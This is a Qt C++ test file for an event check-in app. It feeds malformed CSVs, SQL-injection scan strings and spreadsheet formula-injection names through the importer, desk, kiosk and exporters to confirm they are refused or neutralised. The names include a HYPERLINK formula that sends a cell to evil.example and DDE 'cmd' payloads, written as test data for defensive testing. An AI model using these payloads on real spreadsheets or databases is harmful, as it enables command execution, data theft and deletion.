// Hostile input. Malformed CSV files (invalid UTF-8, NUL bytes, a 10 MB
// field, 100,000 columns, unbalanced quotes, empty, header only, BOMs) go
// through the importer and the real `mannam import`: each is refused with a
// clear reason and nothing written (the event file byte-identical), or its
// bad lines are skipped with the reason — in bounded time and memory. Scan
// payloads (empty, 3 KB, control characters, SQL-looking text, another
// event's codes and PIN card, made-up admin payloads) are refused at the desk
// and the kiosk; the desk writes only its failed-scan row (by design), the
// kiosk nothing. Names with formula text are imported, checked in, meet at
// the kiosk and win; every export keeps them inert in a spreadsheet, and the
// app shows them exactly as written.
#include "ReliabilitySupport.h"

#include "BingoTestSupport.h"
#include "ScannerTestSupport.h"

#include "checkin/CheckInService.h"
#include "desk/DeskSession.h"
#include "desk/DeskWindow.h"
#include "desk/FeedbackSounds.h"
#include "kiosk/KioskSession.h"
#include "kiosk/KioskWindow.h"
#include "storage/BingoStore.h"
#include "tickets/TicketWriter.h"
#include "transfer/AttendeeImporter.h"
#include "transfer/CsvReader.h"
#include "transfer/EventExporter.h"

#include <QLabel>
#include <QLineEdit>
#include <QRandomGenerator>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace mannam;

namespace {

constexpr qint64 MaxMilliseconds = 20000; // per file, also under sanitizers
constexpr qint64 MaxChildMemoryMb = 1024;

QByteArray utf8(const QString &text)
{
    return text.toUtf8();
}

// Every table but the check-in log, as text.
QString dumpExceptLog(const test::RawConnection &raw)
{
    QString dump;
    const QList<QVariantList> tables = raw.rows(
            u"SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' "
            "AND name <> 'checkin_log' ORDER BY name"_s);
    for (const QVariantList &table : tables) {
        const QString name = table.first().toString();
        dump += u"== "_s + name + u'\n';
        for (const QVariantList &row : raw.rows(u"SELECT * FROM \"%1\" ORDER BY rowid"_s.arg(name))) {
            QStringList cells;
            for (const QVariant &cell : row)
                cells << (cell.isNull() ? u"NULL"_s : cell.toString());
            dump += cells.join(u'|') + u'\n';
        }
    }
    return dump;
}

// A 24-digit code of this event's shape with a wrong check digit.
QString withWrongCheckDigit(const QString &code)
{
    QString wrong = code;
    wrong[wrong.size() - 1] = QChar(u'0' + (code.back().digitValue() + 1) % 10);
    return wrong;
}

QString fullWidth(const QString &digits)
{
    QString wide;
    for (QChar c : digits)
        wide += QChar(0xFF10 + c.digitValue());
    return wide;
}

struct Payload
{
    QString label;
    QString text;
    ScanResult expected = ScanResult::UnknownCode; // at the desk
};

// The cells of an exported CSV; fails the test if any could start a formula.
QList<QStringList> inertCells(const QString &path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly)) {
        QTest::qFail(qPrintable(u"cannot read "_s + path), __FILE__, __LINE__);
        return {};
    }
    const QByteArray bytes = file.readAll();
    if (!bytes.startsWith("\xEF\xBB\xBF"))
        QTest::qFail(qPrintable(path + u" has no UTF-8 BOM (Excel would misread Hangul)"_s), __FILE__, __LINE__);
    const CsvTable table = parseCsv(QString::fromUtf8(bytes));
    QList<QStringList> rows;
    for (const CsvRecord &record : table.records) {
        for (const QString &cell : record.fields) {
            if (!cell.isEmpty() && QStringView(u"=+-@\t\r").contains(cell.front())) {
                QTest::qFail(qPrintable(u"%1 line %2: the cell \"%3\" would run as a formula"_s.arg(path).arg(record.line).arg(cell)),
                             __FILE__, __LINE__);
                return {};
            }
        }
        rows << record.fields;
    }
    return rows;
}

bool anyCellIs(const QList<QStringList> &rows, const QString &text)
{
    return std::any_of(rows.cbegin(), rows.cend(), [&](const QStringList &row) { return row.contains(text); });
}

} // namespace

class TestHostileInput : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    QString m_basePath;     // an event with three people, closed (no WAL)
    int m_copies = 0;
    qint64 m_slowestImportMs = 0;
    int m_filesTried = 0;

    QString freshCopy()
    {
        const QString path = m_dir.filePath(u"copy%1.mannam"_s.arg(++m_copies));
        QFile::copy(m_basePath, path);
        return path;
    }

private slots:
    void initTestCase()
    {
        QVERIFY2(!test::mannamBinary().isEmpty(), "MANNAM_BINARY is not set; run through ctest");
        QStandardPaths::setTestModeEnabled(true);
        QCoreApplication::setApplicationName(u"mannam-tests"_s);
        m_basePath = m_dir.filePath(u"base.mannam"_s);
        auto event = test::createEvent(m_basePath);
        test::addPeople(event->store(), 3, u"Registered"_s);
    }

    void cleanupTestCase()
    {
        qInfo("hostile CSVs: %d files, each through the importer and `mannam import`; slowest %lld ms; "
              "largest CLI peak memory %lld MB; test process peak %lld MB",
              m_filesTried, m_slowestImportMs, test::largestChildPeakMb(), test::ownPeakMb());
    }

    // --- CSV files ---------------------------------------------------------

    void hostileCsv_isRefusedOrSkippedClearly_nothingWrittenWhenRefused_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("encoding");  // --encoding
        QTest::addColumn<QString>("refusal");   // part of the message; empty: imported
        QTest::addColumn<int>("added");
        QTest::addColumn<QString>("skipReason"); // part of a skipped line's reason

        const QByteArray header = "name,email\n";
        QTest::addRow("invalid UTF-8 (C3 28)") << header + "Kim \xC3\x28 Lee,k@example.org\n" << u"auto"_s
                                               << u"neither UTF-8 nor CP949"_s << 0 << QString();
        QTest::addRow("invalid UTF-8, --encoding utf-8") << header + "Kim \xC3\x28 Lee,k@example.org\n" << u"utf-8"_s
                                                         << u"is not valid UTF-8 text"_s << 0 << QString();
        QTest::addRow("bytes FF FE FD") << header + "\xFF\xFE\xFDX,x@example.org\n" << u"auto"_s
                                        << u"byte 0xFF"_s << 0 << QString();
        QTest::addRow("truncated UTF-8 at the end") << header + "Kim,k@example.org\n\xEA\xB9" << u"utf-8"_s
                                                    << u"is not valid UTF-8 text"_s << 0 << QString();
        QTest::addRow("NUL byte in a name") << header + QByteArray("Kim\0Lee,k@example.org\n", 22) << u"auto"_s
                                            << u"NUL character"_s << 0 << QString();
        QTest::addRow("NUL bytes everywhere (binary)") << QByteArray(4096, '\0') << u"auto"_s << u"NUL character"_s
                                                        << 0 << QString();
        QTest::addRow("unbalanced quote") << header + "\"Kim Lee,k@example.org\nPark,p@example.org\n" << u"auto"_s
                                          << u"never closed"_s << 0 << QString();
        QTest::addRow("quote inside an unquoted field") << header + "Kim \"The\" Lee,k@example.org\n" << u"auto"_s
                                                        << u"contains one"_s << 0 << QString();
        QTest::addRow("text after a closing quote") << header + "\"Kim\" Lee,k@example.org\n" << u"auto"_s
                                                    << u"after the closing quote"_s << 0 << QString();
        QTest::addRow("more fields than the header") << header + "Kim,k@example.org,extra,more\n" << u"auto"_s
                                                     << u"has 4 fields but the header has 2"_s << 0 << QString();
        QTest::addRow("empty file") << QByteArray() << u"auto"_s << u"The file is empty."_s << 0 << QString();
        QTest::addRow("only line breaks (a million)") << QByteArray(1'000'000, '\n') << u"auto"_s
                                                      << u"The file is empty."_s << 0 << QString();
        QTest::addRow("only a BOM") << QByteArray("\xEF\xBB\xBF") << u"auto"_s << u"The file is empty."_s << 0
                                    << QString();
        QTest::addRow("UTF-16 LE with BOM") << QByteArray("\xFF\xFE") + QByteArray("n\0a\0m\0e\0\n\0", 10) << u"auto"_s
                                            << u"UTF-16"_s << 0 << QString();
        QTest::addRow("UTF-16 BE with BOM") << QByteArray("\xFE\xFF") + QByteArray("\0n\0a\0m\0e\0\n", 10) << u"auto"_s
                                            << u"UTF-16"_s << 0 << QString();
        QTest::addRow("UTF-32 LE with BOM") << QByteArray("\xFF\xFE\0\0", 4) + QByteArray("n\0\0\0", 4) << u"auto"_s
                                            << u"UTF-16"_s << 0 << QString();
        QTest::addRow("no name column") << QByteArray("email,phone\nk@example.org,010-1234-5678\n") << u"auto"_s
                                        << u"No column holds the attendees' names"_s << 0 << QString();
        QByteArray manyColumns = "name";
        for (int i = 1; i < 100'000; ++i)
            manyColumns += ",c" + QByteArray::number(i);
        manyColumns += "\nKim";
        manyColumns += QByteArray(99'999, ',');
        manyColumns += '\n';
        QTest::addRow("100,000 columns") << manyColumns << u"auto"_s << u"100000 columns"_s << 0 << QString();
        QByteArray longHeaders = QByteArray(5'000'000, 'H') + ",email\nKim,k@example.org\n";
        QTest::addRow("a 5 MB column title, no name column") << longHeaders << u"auto"_s
                                                            << u"No column holds the attendees' names"_s << 0
                                                            << QString();

        // Imported, with the bad lines skipped and the reason given.
        QTest::addRow("only a header") << header << u"auto"_s << QString() << 0 << QString();
        QTest::addRow("only a header, with BOM") << QByteArray("\xEF\xBB\xBF") + header << u"auto"_s << QString() << 0
                                                 << QString();
        QTest::addRow("UTF-8 BOM") << QByteArray("\xEF\xBB\xBF") + header + "김민준,kim@example.org\n" << u"auto"_s
                                   << QString() << 1 << QString();
        QTest::addRow("two UTF-8 BOMs") << QByteArray("\xEF\xBB\xBF\xEF\xBB\xBF") + header + "Kim,kim@example.org\n"
                                        << u"auto"_s << QString() << 1 << QString();
        const QByteArray tenMb(10 * 1024 * 1024, 'A');
        QTest::addRow("a 10 MB name") << header + "\"" + tenMb + "\",a@example.org\nPark,p@example.org\n" << u"auto"_s
                                      << QString() << 1 << u"the name is 10485760 characters long"_s;
        QTest::addRow("a 10 MB email") << header + "Kim," + tenMb + "\nPark,p@example.org\n" << u"auto"_s << QString()
                                       << 1 << u"the email is 10485760 characters long"_s;
        QTest::addRow("a 10 MB cell in a column that is not read")
                << QByteArray("name,internal_blob\nKim,") + tenMb + "\nPark,short\n" << u"auto"_s << QString() << 2
                << QString();
        QTest::addRow("lines without a name") << header + ",a@example.org\n  ,b@example.org\nKim,k@example.org\n"
                                              << u"auto"_s << QString() << 1 << u"no name"_s;
    }

    void hostileCsv_isRefusedOrSkippedClearly_nothingWrittenWhenRefused()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, encoding);
        QFETCH(QString, refusal);
        QFETCH(int, added);
        QFETCH(QString, skipReason);
        ++m_filesTried;
        ImportOptions options;
        options.encoding = *encodingFromName(encoding);

        // 1. The importer, in this process.
        const QString path = freshCopy();
        const QByteArray before = test::fileHash(path);
        QElapsedTimer timer;
        timer.start();
        ImportPlan plan;
        {
            auto event = EventFile::open(path);
            plan = AttendeeImporter(event->store()).import(bytes, options);
            QCOMPARE(event->store().attendeeCount(), 3 + (refusal.isEmpty() ? added : 0));
        }
        const qint64 inProcessMs = timer.elapsed();
        QVERIFY2(inProcessMs < MaxMilliseconds, qPrintable(QString::number(inProcessMs)));
        if (!refusal.isEmpty()) {
            QVERIFY2(!plan.ok() && plan.error.contains(refusal), qPrintable(plan.error.left(500)));
            QVERIFY2(plan.error.size() < 2000, "a message for people, not the file");
            QCOMPARE(test::fileHash(path), before); // byte-identical
        } else {
            QVERIFY2(plan.ok(), qPrintable(plan.error.left(500)));
            QCOMPARE(plan.count(ImportLine::Outcome::Added), added);
            if (!skipReason.isEmpty()) {
                const auto skipped = std::find_if(plan.lines.cbegin(), plan.lines.cend(), [&](const ImportLine &line) {
                    return line.outcome == ImportLine::Outcome::Skipped && line.detail.contains(skipReason);
                });
                QVERIFY2(skipped != plan.lines.cend(), qPrintable(AttendeeImporter::report(plan, false, true).left(2000)));
                QVERIFY(skipped->name.size() <= AttendeeImporter::ShownTextLength);
            }
            const QString report = AttendeeImporter::report(plan, false, true);
            QVERIFY2(report.size() < 100'000, "the report repeats the file");
        }

        // 2. The real CLI, with the file on disk.
        const QString csv = m_dir.filePath(u"hostile%1.csv"_s.arg(m_copies));
        {
            QFile file(csv);
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write(bytes);
        }
        const QString cliPath = freshCopy();
        const QByteArray cliBefore = test::fileHash(cliPath);
        const test::CliRun run = test::runCli({u"import"_s, cliPath, csv, u"--encoding"_s, encoding});
        QVERIFY2(run.finished && run.ms < MaxMilliseconds, qPrintable(run.describe()));
        QVERIFY2(run.out.size() + run.err.size() < 100'000, "the CLI repeats the file");
        if (!refusal.isEmpty()) {
            QVERIFY2(run.exitCode == 5 && run.err.contains(u"nothing imported"_s) && run.err.contains(refusal),
                     qPrintable(run.describe()));
            QCOMPARE(test::fileHash(cliPath), cliBefore);
        } else {
            QVERIFY2(run.exitCode == 0, qPrintable(run.describe()));
            QVERIFY2(run.out.contains(u"Added %1,"_s.arg(added)), qPrintable(run.describe()));
            if (!skipReason.isEmpty())
                QVERIFY2(run.out.contains(skipReason), qPrintable(run.describe()));
        }
        m_slowestImportMs = std::max({m_slowestImportMs, inProcessMs, run.ms});
        QVERIFY2(test::largestChildPeakMb() < MaxChildMemoryMb,
                 qPrintable(u"the CLI peaked at %1 MB"_s.arg(test::largestChildPeakMb())));
        QFile::remove(csv);
    }

    // --- scan payloads -----------------------------------------------------

    void scanPayloads_refusedAtTheDeskAndTheKiosk_nothingWrittenButTheFailedScanRow()
    {
        const QString path = m_dir.filePath(u"scans.mannam"_s);
        const QString pin = u"482916"_s;
        auto event = test::createEvent(path);
        test::setUpBingo(event->store(), 3, 1, false, 9);
        const Attendee a = test::addPlayer(event->store(), u"Alice"_s, {u"K01"_s});
        test::addPlayer(event->store(), u"Bob"_s, {u"K02"_s});
        BingoService(event->store()).setKioskPin(pin);
        const QString tag = event->store().eventInfo().codeTag;

        // Another event, with its own people, tag and PIN card.
        std::unique_ptr<EventFile> other;
        for (int n = 0; !other || other->store().eventInfo().codeTag == tag; ++n)
            other = test::createEvent(m_dir.filePath(u"other%1.mannam"_s.arg(n)), u"Another Meetup"_s);
        const Attendee stranger = test::addPerson(other->store(), u"Stranger"_s);
        const QString otherPin = u"135790"_s;

        const QString unknownOurs = TicketCode::generate(tag, event->store().allCodes());
        QString bigRandom;
        for (int i = 0; i < 3072; ++i)
            bigRandom += QChar(u'!' + QRandomGenerator::global()->bounded(94));
        const QList<Payload> payloads{
            {u"3 KB of digits"_s, QString(3072, u'7')},
            {u"3 KB of printable noise"_s, bigRandom},
            {u"3 KB of Hangul"_s, QString(1024, QChar(0xD55C)) + QString(1024, QChar(0xAE00)) + QString(1024, QChar(0xB9D0))},
            {u"1 MB"_s, QString(1024 * 1024, u'A')},
            {u"control characters"_s, u"\x01\x02\x03\x1b[2J\x1b]0;pwned\x07\x7f"_s},
            {u"line breaks inside"_s, u"123\r\nAdmitted: Mallory\n456"_s},
            {u"right-to-left override"_s, u"\u202E1234567890"_s},
            {u"a trailing NUL"_s, a.ticketCode + QChar(0)},
            {u"SQL: OR 1=1; DROP TABLE"_s, u"' OR 1=1; DROP TABLE attendees; --"_s},
            {u"SQL: DELETE FROM the log"_s, u"\"; DELETE FROM checkin_log; --"_s},
            {u"SQL: ATTACH"_s, u"1; ATTACH DATABASE '/tmp/evil.db' AS evil; --"_s},
            {u"SQL: UNION SELECT"_s, u"x' UNION SELECT ticket_code FROM attendee_codes --"_s},
            {u"a URL"_s, u"https://evil.example/checkin?code="_s + a.ticketCode},
            {u"JSON"_s, u"{\"code\":\"%1\"}"_s.arg(a.ticketCode)},
            {u"this event's code, wrong check digit"_s, withWrongCheckDigit(a.ticketCode), ScanResult::InvalidCode},
            {u"this event's shape, nobody's code"_s, unknownOurs},
            {u"full-width digits of a real code"_s, fullWidth(a.ticketCode)},
            {u"another event's ticket"_s, stranger.ticketCode, ScanResult::OtherEvent},
            {u"another event's badge"_s, stranger.badgeCode, ScanResult::OtherEvent},
            {u"another event's PIN card"_s, KioskPin::qrPayload(otherPin)},
            {u"an empty PIN card"_s, u"MANNAM-PIN:"_s},
            {u"a PIN card with SQL"_s, u"MANNAM-PIN:' OR '1'='1"_s},
            {u"a made-up admin card"_s, u"MANNAM-ADMIN:unlock"_s},
            {u"a made-up desk card"_s, u"MANNAM-DESK:Desk 1"_s},
        };
        const test::RawConnection raw(path);
        const auto logRows = [&] { return raw.scalar(u"SELECT COUNT(*) FROM checkin_log"_s).toInt(); };
        const int admittedBefore = event->store().stats().checkedIn;

        // The desk: each payload is red, with a reason; one failed-scan row.
        FakeClock clock(test::eventDayUtc(10));
        {
            DeskSession desk(*event, u"Desk 1"_s, clock);
            QList<CheckInOutcome> outcomes;
            connect(&desk, &DeskSession::outcomeReady, this,
                    [&outcomes](const CheckInOutcome &outcome) { outcomes << outcome; });
            QSignalSpy failures(&desk, &DeskSession::storageFailed);
            QCOMPARE(logRows(), 2); // only the two players' check-ins
            const QString tables = dumpExceptLog(raw);
            // A blank read is nobody's scan: no result, no log row.
            for (const QString &blank : {QString(), u"   \t "_s}) {
                desk.submitCode(blank, DeskSession::Source::Scanner);
                QCOMPARE(logRows(), 2);
            }
            QVERIFY(outcomes.isEmpty());
            const QList<Payload> &deskPayloads = payloads;
            for (const Payload &payload : std::as_const(deskPayloads)) {
                clock.advanceMs(10'000);
                const int rows = logRows();
                desk.submitCode(payload.text, DeskSession::Source::Scanner);
                QVERIFY2(!outcomes.isEmpty(), qPrintable(payload.label));
                const CheckInOutcome outcome = outcomes.takeLast();
                QVERIFY2(outcome.result == payload.expected,
                         qPrintable(payload.label + u": "_s + CheckInService::resultLabel(outcome.result)));
                QCOMPARE(outcome.signal(), CheckInRules::Signal::Red);
                QVERIFY(!outcome.attendee);
                QVERIFY2(!outcome.reason().isEmpty(), qPrintable(payload.label));
                QCOMPARE(logRows(), rows + 1);
                const QList<QVariantList> row = raw.rows(
                        u"SELECT attendee_id, result, length(scanned_code) FROM checkin_log ORDER BY id DESC LIMIT 1"_s);
                QVERIFY2(row.first().at(0).isNull(), qPrintable(payload.label));
                QCOMPARE(row.first().at(1).toString(), resultToText(payload.expected));
                QVERIFY(row.first().at(2).toInt() <= CheckInService::MaxStoredCodeLength);
            }
            QCOMPARE(failures.size(), 0);
            const QString after = dumpExceptLog(raw);
            QVERIFY2(after == tables, qPrintable(test::firstDifference(tables, after)));
        }
        QCOMPARE(event->store().stats().checkedIn, admittedBefore);
        QCOMPARE(raw.scalar(u"SELECT COUNT(*) FROM attendees"_s).toInt(), 2);

        // The CLI answers the same payloads one line each (stdin, no NULs or line breaks).
        QStringList lines;
        for (const Payload &payload : payloads) {
            if (!payload.text.contains(QChar(0)) && !payload.text.contains(u'\n') && !payload.text.contains(u'\r'))
                lines << payload.text;
        }
        const test::CliRun cli = test::runCli({u"checkin"_s, path, u"-"_s, u"--desk"_s, u"CLI"_s},
                                              utf8(lines.join(u'\n') + u'\n'));
        QVERIFY2(cli.exitCode == 2, qPrintable(cli.describe()));
        const QStringList answers = cli.out.split(u'\n', Qt::SkipEmptyParts);
        QCOMPARE(answers.size(), lines.size());
        for (const QString &answer : answers)
            QVERIFY2(answer.startsWith(u"Refused: "_s), qPrintable(answer));
        QCOMPARE(event->store().stats().checkedIn, admittedBefore);

        // The kiosk: refused, the PIN cards of others refused; nothing written at all.
        KioskSession kiosk(*event, u"Kiosk 1"_s, clock);
        kiosk.submitCode(a.badgeCode, KioskSession::Source::Scanner); // Alice's card is dealt (a write)
        QCOMPARE(kiosk.state(), KioskSession::State::WaitingForSecond);
        QSignalSpy unlocked(&kiosk, &KioskSession::unlocked);
        QSignalSpy pinRefused(&kiosk, &KioskSession::pinRefused);
        const QString everything = raw.dumpAllTables();
        int refusedAsFirst = 0;
        int refusedAsSecond = 0;
        for (const Payload &payload : payloads) {
            for (const bool asSecond : {false, true}) {
                kiosk.reset();
                clock.advanceMs(10 * 60'000); // past any PIN lockout
                if (asSecond) {
                    kiosk.submitCode(a.badgeCode, KioskSession::Source::Scanner);
                    QCOMPARE(kiosk.state(), KioskSession::State::WaitingForSecond);
                }
                const int pinTries = int(pinRefused.size());
                kiosk.submitCode(payload.text, KioskSession::Source::Scanner);
                QCOMPARE(unlocked.size(), 0);
                if (payload.text.trimmed().startsWith(u"MANNAM-PIN:"_s, Qt::CaseInsensitive)) {
                    QCOMPARE(pinRefused.size(), pinTries + 1); // a PIN try, wrong
                    continue;
                }
                QVERIFY2(kiosk.state() == KioskSession::State::ShowingRefusal,
                         qPrintable(payload.label + u": "_s + QString::number(int(kiosk.state()))));
                QVERIFY2(!kiosk.outcome().why.english().isEmpty(), qPrintable(payload.label));
                ++(asSecond ? refusedAsSecond : refusedAsFirst);
            }
        }
        for (const QString &blank : {QString(), u" \t "_s}) {
            kiosk.reset();
            kiosk.submitCode(blank, KioskSession::Source::Scanner);
            QCOMPARE(kiosk.state(), KioskSession::State::WaitingForFirst);
        }
        const QString afterKiosk = raw.dumpAllTables();
        QVERIFY2(afterKiosk == everything, qPrintable(test::firstDifference(everything, afterKiosk)));
        // The right PIN card still works: the payloads above did not lock it up.
        kiosk.submitCode(KioskPin::qrPayload(pin), KioskSession::Source::Scanner);
        QCOMPARE(unlocked.size(), 1);
        QCOMPARE(event->database().integrityCheck(), u"ok"_s);
        qInfo("scan payloads: %lld at the desk (one failed-scan row each, nothing else), %lld through the CLI, "
              "%d + %d refused at the kiosk as first and second badge (nothing written), "
              "%lld PIN-card tries refused",
              qlonglong(payloads.size() + 2), qlonglong(lines.size()), refusedAsFirst, refusedAsSecond,
              qlonglong(pinRefused.size()));
    }

    // --- formula names -------------------------------------------------------

    void formulaNames_exportInert_andShownAsWritten()
    {
        const QString path = m_dir.filePath(u"formulas.mannam"_s);
        auto event = test::createEvent(path);
        test::setUpBingo(event->store(), 3, 1, false, 9);
        const QStringList names{
            u"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")"_s,
            u"+cmd|' /C calc'!A0"_s,
            u"-1+1"_s,
            u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
            u"<b>Bold</b> <img src=\"file:///etc/passwd\"> Kim"_s,
        };
        const QStringList affiliations{u"=cmd|' /C notepad'!A0"_s, u"+Evil Corp"_s, u"-Dash Inc"_s, u"@Home"_s,
                                       u"<i>HTML Co</i>"_s};
        const QStringList keywords{u"K01;K02;K03"_s, u"K04;K05;K06"_s, u"K07;K08;K09"_s, u"K01"_s, u"K02"_s};
        QByteArray csv = "name,email,affiliation,phone,keywords,consent\n";
        for (int i = 0; i < names.size(); ++i) {
            QString quotedName = names.at(i);
            quotedName.replace(u"\""_s, u"\"\""_s);
            csv += utf8(u"\"%1\",formula%2@example.org,\"%3\",010-1111-%4,%5,yes\n"_s.arg(quotedName).arg(i).arg(
                    affiliations.at(i), QString::number(2000 + i), keywords.at(i)));
        }
        const ImportPlan plan = AttendeeImporter(event->store()).import(csv, {});
        QVERIFY2(plan.ok(), qPrintable(plan.error));
        QCOMPARE(plan.count(ImportLine::Outcome::Added), int(names.size()));
        QHash<QString, Attendee> byName;
        for (const Attendee &person : event->store().attendees())
            byName.insert(person.name, person);
        for (int i = 0; i < names.size(); ++i) {
            QVERIFY2(byName.contains(names.at(i)), qPrintable(names.at(i))); // stored exactly as written
            QCOMPARE(byName.value(names.at(i)).affiliation, affiliations.at(i));
        }

        // Checked in at a desk named like a formula, they meet at such a kiosk; one wins.
        CheckInService desk(event->store());
        for (const QString &name : names)
            QCOMPARE(desk.scan(byName.value(name).ticketCode, u"@Desk"_s).result, ScanResult::Admitted);
        BingoService bingo(event->store());
        const Attendee winner = byName.value(names.at(4));
        for (int i = 0; i < 3; ++i)
            QVERIFY(bingo.meet(winner.badgeCode, byName.value(names.at(i)).badgeCode, u"=kiosk()"_s).ok());
        QVERIFY(BingoStore(event->store()).winnerCount() >= 1);
        const BingoWinner first = BingoStore(event->store()).winners().constFirst();
        QVERIFY(bingo.handOverPrize(first.attendeeId, u"+giver"_s).ok());

        // Every export, and the ticket mail-merge file.
        EventExporter exporter(event->store());
        const QString folder = m_dir.filePath(u"formula-exports"_s);
        QDir().mkpath(folder);
        const QList<std::pair<QString, std::function<bool(const QString &, QString *)>>> exports{
            {u"attendance.csv"_s, [&](const QString &p, QString *e) { return exporter.exportAttendance(p, e); }},
            {u"scans.csv"_s, [&](const QString &p, QString *e) { return exporter.exportScans(p, e); }},
            {u"meetings.csv"_s, [&](const QString &p, QString *e) { return exporter.exportMeetings(p, e); }},
            {u"winners.csv"_s, [&](const QString &p, QString *e) { return exporter.exportWinners(p, e); }},
            {u"contacts.csv"_s, [&](const QString &p, QString *e) { return exporter.exportContacts(p, e); }},
        };
        QHash<QString, QList<QStringList>> cells;
        for (const auto &[file, write] : exports) {
            QString error;
            QVERIFY2(write(QDir(folder).filePath(file), &error), qPrintable(error));
            cells.insert(file, inertCells(QDir(folder).filePath(file)));
            QVERIFY2(!QTest::currentTestFailed(), qPrintable(file));
        }
        const TicketBatchResult tickets = TicketWriter(event->store().eventInfo())
                                                  .write(event->store().attendees(), QDir(folder).filePath(u"tickets"_s));
        QVERIFY2(tickets.ok(), qPrintable(tickets.error));
        cells.insert(u"mail-merge.csv"_s, inertCells(tickets.csvPath));
        const QString cliCsv = QDir(folder).filePath(u"cli-attendance.csv"_s);
        const test::CliRun cli = test::runCli({u"export"_s, path, u"--attendance"_s, cliCsv});
        QVERIFY2(cli.exitCode == 0, qPrintable(cli.describe()));
        cells.insert(u"cli-attendance.csv"_s, inertCells(cliCsv));
        QVERIFY(!QTest::currentTestFailed());

        // The text is all there, behind the apostrophe a spreadsheet shows as text.
        for (const QString &name : names.mid(0, 4)) {
            for (const QString &file : {u"attendance.csv"_s, u"mail-merge.csv"_s, u"cli-attendance.csv"_s, u"scans.csv"_s})
                QVERIFY2(anyCellIs(cells.value(file), u'\'' + name), qPrintable(file + u": "_s + name));
        }
        for (const QString &name : names.mid(0, 3)) { // the three who met the winner (all consented)
            QVERIFY2(anyCellIs(cells.value(u"contacts.csv"_s), u'\'' + name), qPrintable(name));
            QVERIFY2(anyCellIs(cells.value(u"meetings.csv"_s), u'\'' + name), qPrintable(name));
        }
        QVERIFY(anyCellIs(cells.value(u"attendance.csv"_s), u"'=cmd|' /C notepad'!A0"_s));
        QVERIFY(anyCellIs(cells.value(u"meetings.csv"_s), u"'=kiosk()"_s));
        QVERIFY(anyCellIs(cells.value(u"scans.csv"_s), u"'@Desk"_s));
        QVERIFY(anyCellIs(cells.value(u"winners.csv"_s), u"'+giver"_s));
        QVERIFY(anyCellIs(cells.value(u"attendance.csv"_s), names.at(4))); // no formula: untouched

        // The app shows the names exactly as written, never as markup.
        DeskWindow deskWindow(*event, u"Desk 1"_s);
        deskWindow.sounds().setMuted(true);
        deskWindow.show();
        QVERIFY(QTest::qWaitForWindowExposed(&deskWindow));
        auto *nameLabel = deskWindow.findChild<QLabel *>(u"resultNameLabel"_s);
        for (const QString &name : names) {
            test::sendScannerBurst(deskWindow.findChild<QLineEdit *>(u"searchLineEdit"_s), byName.value(name).ticketCode);
            QTRY_COMPARE(nameLabel->text(), name);
            QCOMPARE(nameLabel->textFormat(), Qt::PlainText);
        }
        KioskWindow kioskWindow(*event, u"Kiosk 2"_s);
        kioskWindow.sounds().setMuted(true);
        kioskWindow.show();
        QVERIFY(QTest::qWaitForWindowExposed(&kioskWindow));
        kioskWindow.session().submitCode(winner.badgeCode, KioskSession::Source::Scanner);
        auto *waitingName = kioskWindow.findChild<QLabel *>(u"waitingNameLabel"_s);
        QCOMPARE(waitingName->text(), names.at(4));
        QCOMPARE(waitingName->textFormat(), Qt::PlainText);
        qInfo("formula names: %lld names and affiliations, desk and kiosk names, a prize giver; "
              "7 CSV files checked cell by cell, none starts a formula",
              qlonglong(names.size()));
    }
};

QTEST_MAIN(TestHostileInput)
#include "tst_hostileinput.moc"
